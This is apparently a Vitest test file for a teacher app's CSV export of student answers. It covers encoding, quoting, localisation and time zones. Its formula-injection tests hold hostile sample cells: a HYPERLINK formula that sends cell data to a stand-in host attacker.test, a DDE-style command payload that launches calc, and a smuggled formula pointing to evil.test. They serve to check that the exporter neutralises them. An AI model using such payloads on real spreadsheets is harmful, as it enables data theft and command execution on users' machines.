import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { answersCsv, localDateTime, type AnswerRow } from '$lib/teacher/csv';

const row = (overrides: Partial<AnswerRow> = {}): AnswerRow => ({
	pseudonym: 'Zoé',
	lessonId: 'karabakh-revenge',
	questionId: 'qui-parle',
	questionText: 'Qui affirme que l’opération a fait « trois morts » ?',
	skill: 'Identifier la source',
	answer: 'Le porte-parole d’Artsakh',
	correct: false,
	attempt: 1,
	at: '2026-03-02T09:14:07.000Z',
	questionVersion: 'current',
	...overrides
});

/** Parses the CSV back strictly: quotes must be balanced and every row the same width. */
const readBack = (csv: string, delimiter = ';'): string[][] =>
	parse(csv, {
		bom: true,
		delimiter,
		relax_quotes: false,
		relax_column_count: false,
		record_delimiter: '\r\n'
	});

const HEADER_FR = [
	'Pseudonyme',
	'Leçon',
	'Question (id)',
	'Question',
	'Compétence',
	'Réponse',
	'Juste',
	'Essai',
	'Date (UTC)',
	'Version de la question'
];

describe('answersCsv', () => {
	it('starts with a UTF-8 byte order mark, then a header row', () => {
		const csv = answersCsv([row()]);
		expect(csv.charCodeAt(0)).toBe(0xfeff);
		expect(csv.indexOf('\uFEFF', 1)).toBe(-1);
		expect(readBack(csv)[0]).toEqual(HEADER_FR);
		// Encoded for a download, the file begins with the bytes EF BB BF.
		expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	});

	it('ends every line with CRLF, as Excel expects', () => {
		const csv = answersCsv([row(), row({ pseudonym: 'Élise', correct: true })]);
		expect(csv.endsWith('\r\n')).toBe(true);
		const lines = csv.split('\r\n');
		expect(lines).toHaveLength(4);
		for (const line of lines) expect(line).not.toMatch(/[\r\n]/);
	});

	it('keeps accents, French quotation marks, apostrophes and double quotes intact', () => {
		const tricky = row({
			pseudonym: 'Anaïs-Œdipe',
			questionText: 'Que veut dire « relativement secure » dans l’article ?',
			answer: 'Il dit "sûr", pas « sécurisé » ; voilà, c’est tout',
			skill: 'La qualité du texte'
		});
		const multiline = row({ answer: 'première ligne\nseconde ligne, avec virgule' });
		const [header, first, second] = readBack(answersCsv([tricky, multiline]));
		expect(header).toEqual(HEADER_FR);
		expect(first).toEqual([
			'Anaïs-Œdipe',
			'karabakh-revenge',
			'qui-parle',
			'Que veut dire « relativement secure » dans l’article ?',
			'La qualité du texte',
			'Il dit "sûr", pas « sécurisé » ; voilà, c’est tout',
			'non',
			'1',
			'2026-03-02 09:14:07',
			'actuelle'
		]);
		expect(second![5]).toBe('première ligne\nseconde ligne, avec virgule');
		// Double quotes inside a cell are doubled, the cell quoted: RFC 4180.
		expect(answersCsv([tricky])).toContain(
			'"Il dit ""sûr"", pas « sécurisé » ; voilà, c’est tout"'
		);
	});

	it('neutralises every cell that a spreadsheet would run as a formula', () => {
		const attacks = [
			'=HYPERLINK("http://attacker.test/?"&A1,"Cliquez")',
			'+33 6 12 34 56 78',
			'-2+3',
			"@SUM(1+1)*cmd|' /C calc'!A0",
			'\t=1+1',
			'\r=1+1'
		];
		const rows = attacks.map((attack) =>
			row({ pseudonym: attack, answer: attack, questionText: attack })
		);
		const records = readBack(answersCsv(rows)).slice(1);
		records.forEach((record, i) => {
			for (const cell of [record[0], record[3], record[5]]) {
				expect(cell).toBe(`'${attacks[i]}`);
			}
		});
	});

	it('leaves ordinary cells alone, even with = + - @ inside', () => {
		const record = readBack(
			answersCsv([row({ pseudonym: 'Jean-Luc', answer: 'a = b + c - d @ e', attempt: 12 })])
		)[1]!;
		expect(record[0]).toBe('Jean-Luc');
		expect(record[5]).toBe('a = b + c - d @ e');
		expect(record[7]).toBe('12');
	});

	it('writes right or wrong and the question version in the teacher’s language', () => {
		const rows = [row({ correct: true }), row({ questionVersion: 'earlier' })];
		const fr = readBack(answersCsv(rows, 'fr'));
		expect(fr.slice(1).map((r) => [r[6], r[9]])).toEqual([
			['oui', 'actuelle'],
			['non', 'antérieure']
		]);
		const en = readBack(answersCsv(rows, 'en'), ',');
		expect(en[0]).toEqual([
			'Pseudonym',
			'Lesson',
			'Question (id)',
			'Question',
			'Skill',
			'Answer',
			'Right',
			'Attempt',
			'Date (UTC)',
			'Question version'
		]);
		expect(en.slice(1).map((r) => [r[6], r[9]])).toEqual([
			['yes', 'current'],
			['no', 'earlier']
		]);
	});

	it('is a header alone when there are no answers yet', () => {
		const csv = answersCsv([]);
		expect(csv).toBe(`\uFEFF${HEADER_FR.map((h) => `"${h}"`).join(';')}\r\n`);
	});

	it('keeps a typed answer with a line break or a separator in one quoted cell: no row, no formula smuggled in', () => {
		const sneaky = row({ answer: 'x\n=HYPERLINK("http://evil.test")', pseudonym: 'a;=1+1' });
		const csv = answersCsv([sneaky]);
		// Every cell is quoted: the line break and the ";" are inside a cell, not between cells.
		expect(csv.split('\r\n')[1]).toMatch(/^"a;=1\+1";/);
		const [, only, extra] = readBack(csv);
		expect(extra).toBeUndefined();
		expect(only![0]).toBe('a;=1+1');
		expect(only![5]).toBe('x\n=HYPERLINK("http://evil.test")');
	});
});

describe('dates in the exports', () => {
	it('are written in the server’s time zone, which the header names', () => {
		const [header, winter, summer] = readBack(
			answersCsv(
				[row({ at: '2026-03-02T09:14:07.000Z' }), row({ at: '2026-07-01T21:30:00.000Z' })],
				'fr',
				'Europe/Paris'
			)
		);
		expect(header![8]).toBe('Date (Europe/Paris)');
		expect(winter![8]).toBe('2026-03-02 10:14:07');
		// Summer time, and past midnight: the day changes too.
		expect(summer![8]).toBe('2026-07-01 23:30:00');
	});

	it('never writes 24:00 for midnight', () => {
		expect(localDateTime('2026-03-01T23:00:00.000Z', 'Europe/Paris')).toBe('2026-03-02 00:00:00');
		expect(localDateTime('2026-03-02T00:00:00.000Z', 'UTC')).toBe('2026-03-02 00:00:00');
	});
});
